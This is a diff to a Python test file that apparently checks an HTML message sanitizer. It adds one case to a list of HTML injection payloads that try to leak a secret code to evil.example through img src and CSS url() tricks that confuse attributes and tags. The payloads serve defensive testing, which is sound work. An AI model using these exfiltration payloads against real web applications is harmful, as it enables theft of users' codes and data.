@@ -174,6 +174,7 @@ class TestMessages:
             """{code}<a style='background: /* href="*/ url(https://evil.example/{code}) /*" */'>""",
             """{code}<textarea><a href="</textarea><img src=https://evil.example/{code}>"></a>""",
             """{code}<title><a href="</title><img src=https://evil.example/{code}>"></a>""",
+            """{code}<a x=" href='" style="background: url(//evil.example/{code}); x: '">x</a>""",
             """{code}<img a" src="https://evil.example/?x>{code}">""",
             """{code}<img a==" src="https://evil.example/?x>{code}">""",
             """{code}<img =" src="https://evil.example/?x>{code}">""",
@@ -190,7 +191,7 @@ class TestMessages:
     @pytest.mark.parametrize(
         "html",
         [
-            "<!DOCTYPE html><title>{code}</title><style>p > b { color: red }</style><b>{code}</b> 1 < 2",
+            "<!doctype html><title>{code}</title><style>p > b { top: 0 }</style><b>{code}</b> 1 < 2 {code}",
             "<a href='https://app.example/enter?code={code}'>Enter {code}</a>",
             "<td width=9 title='a>b'><a class=\"b\" href=https://app.example/{code} target=_blank>{code}</a>",
         ],
